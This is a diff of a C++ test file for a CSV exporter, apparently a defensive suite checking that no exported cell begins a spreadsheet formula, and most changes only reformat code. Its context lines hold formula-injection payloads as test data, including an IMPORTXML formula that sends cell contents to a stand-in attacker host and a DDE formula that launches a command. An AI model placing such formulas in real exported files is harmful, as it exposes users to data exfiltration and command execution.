@@ -47,9 +47,19 @@ TEST(Csv, NoCellStartsAFormula) {
       "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
       "DDE(\"cmd\",\"/C calc\",\"x\")",
   };
-  const char* const kStarts[] = {
-      "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "   @",
-      "\xEF\xBC\x9D", "\xEF\xBC\x8B", "\xEF\xBC\x8D", "\xEF\xBC\xA0"};
+  const char* const kStarts[] = {"=",
+                                 "+",
+                                 "-",
+                                 "@",
+                                 "\t=",
+                                 "\r=",
+                                 "\n=",
+                                 " =",
+                                 "   @",
+                                 "\xEF\xBC\x9D",
+                                 "\xEF\xBC\x8B",
+                                 "\xEF\xBC\x8D",
+                                 "\xEF\xBC\xA0"};
   int count = 0;
   for (const char* start : kStarts) {
     for (const char* body : kBodies) {
@@ -106,9 +116,9 @@ TEST(Csv, TheHeaderIsGuardedToo) {
 }
 
 TEST(Csv, NumbersOfOursAreNumbers) {
-  EXPECT_EQ(csv_line(row_of(R"({"answers":[{"step":"n","value":-3}]})"), {"n"},
-                     true),
-            std::string(kFixed) + ",-3\r\n");
+  EXPECT_EQ(
+      csv_line(row_of(R"({"answers":[{"step":"n","value":-3}]})"), {"n"}, true),
+      std::string(kFixed) + ",-3\r\n");
 }
 
 TEST(Csv, ARecordThatIsDamagedIsALineWithoutAnswers) {
